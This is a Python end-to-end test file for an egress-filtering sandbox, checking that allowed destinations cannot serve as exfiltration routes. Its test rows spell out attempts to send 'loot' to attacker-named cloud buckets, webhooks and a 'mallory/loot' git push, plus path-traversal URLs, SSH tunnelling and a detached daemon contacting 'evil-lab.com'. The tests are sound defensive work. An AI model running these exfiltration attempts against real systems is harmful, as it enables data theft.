"""POL rows: what a sandbox could do with places that it may go to, or that people like to allow."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from egressd.lab import Lab, topology
from egressd.rulefiles.load import load_rules
from egressd.rulefiles.problems import Problems
from tests.bypass.arena import SHIPPED, Arena, Row
from tests.e2e.conftest import until

pytestmark = pytest.mark.e2e

API = "api.lab-origin.com"
BUCKET = "our-bucket.s3.amazonaws.com"
DRIP = "drip.lab-pol.com"
RULES = f"""schema: 1
profile: lab
owner: bypass
allow:
  - service: pypi
  - service: npm
  - service: debian
  - service: anthropic
  - service: github-clone
    with: {{repos: ["acme/*"]}}
  - id: api
    hosts: [{API}]
  - id: bucket
    hosts: [{BUCKET}]
    requests: ["GET /public/**"]
  - id: drip
    hosts: [{DRIP}]
    limits: {{requests: 2/minute}}
  - id: raw
    hosts: [deb.debian.org]
    treatment: relay
    ports: [22]
"""
STORAGE = (
    "attacker-bucket.s3.amazonaws.com",
    "attacker-bucket.s3.us-east-1.amazonaws.com",
    "s3.amazonaws.com",
    "storage.googleapis.com",
    "attacker.blob.core.windows.net",
    "attacker.r2.cloudflarestorage.com",
)
FETCHERS = (
    "proxy.golang.org",
    "sum.golang.org",
    "translate.google.com",
    "web.archive.org",
    "images.weserv.nl",
    "cdn.jsdelivr.net",
    "raw.githubusercontent.com",
    "codeload.github.com",
)
INTAKES = (
    "o1.ingest.sentry.io",
    "api.segment.io",
    "hooks.slack.com",
    "hooks.zapier.com",
    "discord.com",
    "api.telegram.org",
)
REGISTRIES = ("crates.io", "registry-1.docker.io", "ghcr.io", "rubygems.org", "push.fury.io")
FORGES = ("api.github.com", "gist.github.com", "uploads.github.com", "ssh.github.com", "lfs.github.com")
LOOSE = (*STORAGE, *FETCHERS, *INTAKES, *REGISTRIES, *FORGES)


def prepare(lab: Lab) -> None:
    """The world's usual places, each answered by an origin that takes anything."""
    for name in (BUCKET, DRIP, *LOOSE):
        lab.set_name(name, a=[topology.API])


def ask(host: str, method: str, path: str, body: bytes = b"") -> str:
    """Code of a request by TLS."""
    size = f"Content-Length: {len(body)}\r\n".encode() if body or method in ("POST", "PUT") else b""
    data = f"get({path!r}, host={host!r}, method={method!r}, head={size!r}, body={body!r})"
    return f"say(shown(tls({host!r}, 443, {data}, {host!r})))"


def denied(id_: str, host: str, method: str, path: str, reason: str = "not_allowed", **more: Any) -> Row:
    """A request that an origin would take and no rule allows."""
    return Row(
        id_,
        ask(host, method, path, b"loot" if method in ("POST", "PUT") else b""),
        title=f"{method} {host}{path}",
        wins=more.pop("wins", "200 OK"),
        sees=rf"403 egressd: denied: .*reason {reason}\)",
        records=(("request", "deny", reason),),
        **more,
    )


_PUSH = """
import tempfile
folder = tempfile.mkdtemp()
git = ('git', '-C', folder, '-c', 'http.sslVerify=false', '-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'credential.helper=')
run(*git, 'init', '-q')
open(folder + '/loot', 'w').write('loot')
run(*git, 'add', 'loot')
run(*git, 'commit', '-qm', 'loot')
say(run(*git, 'push', '-q', '--force', 'https://github.com/{}.git', 'HEAD:refs/heads/loot'))
"""
FORGE = [
    *(
        denied("POL-01", host, method, path)
        for host, method, path in (
            ("api.github.com", "POST", "/gists"),
            ("api.github.com", "POST", "/graphql"),
            ("api.github.com", "POST", "/repos/acme/tools/issues"),
            ("api.github.com", "GET", "/repos/acme/tools"),
            ("gist.github.com", "POST", "/"),
            ("uploads.github.com", "POST", "/repos/acme/tools/releases/1/assets"),
            ("lfs.github.com", "PUT", "/acme/tools"),
        )
    ),
    *(
        denied("POL-01", "github.com", method, path, reason, rule=None, wins="HTTP/1.1 [2345]")
        for method, path, reason in (
            ("GET", "/acme/tools.git/info/refs?service=git-receive-pack", "query_not_allowed"),
            (
                "GET",
                "/acme/tools.git/info/refs?service=git-upload-pack&service=git-receive-pack",
                "query_not_allowed",
            ),
            ("GET", "/acme/tools.git/info/refs", "query_not_allowed"),
            ("POST", "/acme/tools.git/git-receive-pack", "path_not_allowed"),
            ("POST", "/acme/tools.git/info/lfs/objects/batch", "path_not_allowed"),
            ("POST", "/acme/tools/issues", "path_not_allowed"),
            ("GET", "/mallory/loot.git/info/refs?service=git-upload-pack", "path_not_allowed"),
            ("POST", "/mallory/loot.git/git-upload-pack", "path_not_allowed"),
            ("GET", "/acme/../mallory/loot.git/info/refs?service=git-upload-pack", "path_ambiguous"),
            ("GET", "/acme%2F..%2Fmallory/loot.git/info/refs?service=git-upload-pack", "path_ambiguous"),
            ("GET", "/acme-evil/loot.git/info/refs?service=git-upload-pack", "path_not_allowed"),
        )
    ),
    *(
        Row(
            "POL-01",
            _PUSH.format(repository),
            title=f"git push to {repository}",
            wins=wins,
            moot="the lab's own repository takes no pushes",
            sees=r"403.*\[128\]",
            records=(("request", "deny", reason),),
            asks=("github.com",),
        )
        for repository, reason, wins in (
            ("mallory/loot", "path_not_allowed", r"\[0\]"),
            ("acme/tools", "query_not_allowed", None),
        )
    ),
]

_SIGNED = "X-Amz-Credential=AKIAATTACKER&X-Amz-Signature=0123456789abcdef"
PLACES = [
    *(denied("POL-02", host, "PUT", "/attacker-bucket/loot") for host in STORAGE),
    denied("POL-02", BUCKET, "PUT", "/public/loot", "method_not_allowed", rule=None),
    denied("POL-02", BUCKET, "GET", "/private/x", "path_not_allowed"),
    Row(
        "POL-02",
        ask(BUCKET, "GET", f"/public/x?{_SIGNED}"),
        title="a presigned URL of another's is told by its parameters",
        wins="200 OK",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        rule="bucket",
        shows={"event": "decision", "query": "X-Amz-Credential=<12>&X-Amz-Signature=<16>"},
        reaches=(BUCKET,),
    ),
    *(
        denied("POL-03", host, "GET", "/evil-lab.com/x/@v/list?u=https://evil-lab.com/loot")
        for host in FETCHERS
    ),
    denied("POL-04", "registry.npmjs.org", "PUT", "/loot", "method_not_allowed", wins="HTTP/1.1 [2345]"),
    denied(
        "POL-04",
        "registry.npmjs.org",
        "PUT",
        "/-/user/org.couchdb.user:x",
        "method_not_allowed",
        wins="HTTP/1.1 [2345]",
    ),
    denied(
        "POL-04",
        "registry.npmjs.org",
        "POST",
        "/-/npm/v1/tokens",
        "method_not_allowed",
        wins="HTTP/1.1 [2345]",
    ),
    denied("POL-04", "upload.pypi.org", "POST", "/legacy/"),
    denied("POL-04", "pypi.org", "POST", "/legacy/", "path_not_allowed", wins="HTTP/1.1 [2345]"),
    denied("POL-04", "pypi.org", "POST", "/simple/loot/", "method_not_allowed", wins="HTTP/1.1 [2345]"),
    *(
        denied("POL-04", host, "PUT", "/v2/loot/manifests/latest", wins="HTTP/1.1 [2345]")
        for host in REGISTRIES
    ),
    denied("POL-04", "api.anthropic.com", "POST", "/v1/files", "path_not_allowed"),
    *(denied("POL-06", host, "POST", "/services/T0/B0/loot") for host in INTAKES),
    Row(
        "POL-06",
        ask("api.anthropic.com", "POST", "/v1/messages", b"x" * 5000),
        title="what goes to an allowed API is counted",
        wins="200 OK",
        sees='200 OK.*"input_bytes": 5000',
        records=(("request", "allow", "rule"), ("request", "end", "completed")),
        rule="anthropic",
        shows={"event": "end", "host": "api.anthropic.com", "bytes_up": re.compile(r"^5[0-9]{3}$")},
        reaches=("api.anthropic.com",),
    ),
]


def ssh(title: str, code: str, reason: str, wins: str | None, **more: Any) -> Row:
    """SSH where nobody allowed it: refused in words that its clients print."""
    return Row(
        "POL-05",
        code,
        title=title,
        wins=wins,
        sees=more.pop("sees", r"^(?!.*SSH-2\.0-lab).*egressd: denied"),
        records=(("connection", "deny", reason),),
        shows={"detail": re.compile("^first bytes 5353482d")},
        moot="the lab's origins speak TLS there",
        **more,
    )


_HELLO = "b'SSH-2.0-OpenSSH_9.9\\r\\n'"
SECURE_SHELL = [
    ssh(
        "SSH to port 22 of an allowed host",
        f"say(shown(tcp('github.com', 22, {_HELLO})))",
        "port_not_allowed",
        r"SSH-2\.0-lab",
    ),
    ssh(
        "SSH by CONNECT to port 22 of an allowed host",
        f"say(shown(proxy(b'CONNECT github.com:22 HTTP/1.1\\r\\n\\r\\n' + {_HELLO})))",
        "port_not_allowed",
        r"SSH-2\.0-lab",
    ),
    ssh(
        "SSH to port 443 of an allowed host",
        f"say(shown(tcp('github.com', 443, {_HELLO})))",
        "unknown_protocol",
        None,
    ),
    ssh(
        "SSH to port 443 of the forge's host for it",
        f"say(shown(tcp('ssh.github.com', 443, {_HELLO})))",
        "unknown_protocol",
        None,
    ),
    Row(
        "POL-05",
        "say(run('ssh', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes',"
        " '-o', 'ConnectTimeout=4', '-vv', 'git@github.com'))",
        title="a real client to port 22",
        wins=r"remote software version lab|SSH-2\.0-lab|Connection established",
        sees=r"egressd: denied|closed|reset",
        records=(("connection", "deny", "port_not_allowed"),),
    ),
    Row(
        "POL-05",
        f"say(shown(tcp('deb.debian.org', 22, {_HELLO}, read=12)))",
        title="SSH where a rule names host and port",
        wins=r"SSH-2\.0-lab",
        sees=r"SSH-2\.0-lab",
        records=(("connection", "allow", "rule"), ("connection", "end", "completed")),
        rule="raw",
        shows={"event": "decision", "treatment": "relay", "port": 22},
        asks=("deb.debian.org",),
    ),
]

DRIPS = [
    Row(
        "POL-09",
        f"for n in range(3):\n    data = get('/n?d=' + '{{:064x}}'.format(n), host='{DRIP}')\n"
        f"    say(shown(tls('{DRIP}', 443, data, '{DRIP}')).split(chr(13))[0])",
        title="a little in each of a few allowed queries: told, counted, and limited where a rule says so",
        wins="(200 OK.*){3}",
        sees="(200 OK.*){2}429 egressd",
        records=(("request", "allow", "rule"), ("request", "deny", "rate_limited")),
        rule="drip",
        shows={"event": "decision", "query": "d=<64>"},
        reaches=(DRIP,),
        note="a limit: what an allowed request says is not judged; limits bound how much it can be (docs/limits.md)",
    ),
]


@pytest.mark.parametrize("row", [*FORGE, *PLACES, *SECURE_SHELL, *DRIPS], ids=str)
def test_an_allowed_destination_is_no_way_elsewhere(once: Arena, row: Row) -> None:
    once.holds(row)


def test_what_the_shipped_rules_allow_holds_no_place_for_loot() -> None:
    """POL-03, POL-04, POL-06: no shipped service names a host that fetches, stores or takes in whatever it is given."""
    rules = load_rules(SHIPPED)
    assert not isinstance(rules, Problems)
    loose = {*LOOSE, "upload.pypi.org"}
    allowed = [
        entry for name in rules.profiles for entry in rules.effective(name).entries if entry.effect != "deny"
    ]
    assert allowed
    assert {host for entry in allowed for host in entry.hosts} & loose == set()
    for entry in allowed:
        methods = {method for request in entry.requests for method in request.partition(" ")[0].split(",")}
        assert methods <= {"GET", "HEAD", "POST"}, entry
        assert not {"POST /**", "GET,POST /**", "ANY /**"} & set(entry.requests), entry


@pytest.mark.parametrize(
    "host",
    [
        "*.s3.amazonaws.com",
        "*.amazonaws.com",
        "*.blob.core.windows.net",
        "*.windows.net",
        "*.storage.googleapis.com",
        "*.r2.cloudflarestorage.com",
        "*.github.io",
        "*.r2.dev",
    ],
)
def test_storage_that_anybody_can_have_is_no_wildcard(tmp_path: Path, host: str) -> None:
    """POL-02: a wildcard over everybody's buckets is refused or warned of when it is loaded, by name."""
    folder = tmp_path / "rules"
    shutil.copytree(SHIPPED, folder)
    (folder / "profiles" / "lab.yaml").write_text(
        f"schema: 1\nprofile: lab\nowner: x\nallow:\n  - hosts: ['{host}']\n"
    )
    loaded = load_rules(folder)
    said = str(loaded) if isinstance(loaded, Problems) else str(loaded.warnings)
    assert host in said, said


_DAEMON = """
import json
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (0, 1, 2):
            os.dup2(os.open(os.devnull, os.O_RDWR), number)
        time.sleep(0.3)
        said = shown(tcp('www.evil-lab.com', 80, get(host='www.evil-lab.com')))
        seen = {'net': os.readlink('/proc/self/ns/net'), 'said': said}
        with open('daemon.json.new', 'w') as file:
            json.dump(seen, file)
        os.rename('daemon.json.new', 'daemon.json')
    os._exit(0)
say(os.readlink('/proc/self/ns/net'))
"""


def test_a_daemon_of_the_sandbox_stays_in_it(explaining: Arena) -> None:
    """POL-07: whatever a command starts, however far it goes from it, has the sandbox's network and no other.

    Processes that somebody else starts outside are not seen from inside; an operator starts helpers with `egressd run` too.
    """
    file = explaining.stand.workspace / "daemon.json"
    explaining.open.run(_DAEMON)
    until(file.exists, what="the daemon without egressd")
    assert "owned" in json.loads(file.read_text())["said"]
    file.unlink()
    explaining.lab.forget()
    net = explaining.a.run(_DAEMON).strip()
    until(file.exists, what="the daemon in the sandbox")
    seen = json.loads(file.read_text())
    file.unlink()
    assert seen["net"] == net
    assert "403 egressd: denied" in seen["said"]
    explaining.nothing_reached()
    explaining.life_goes_on()
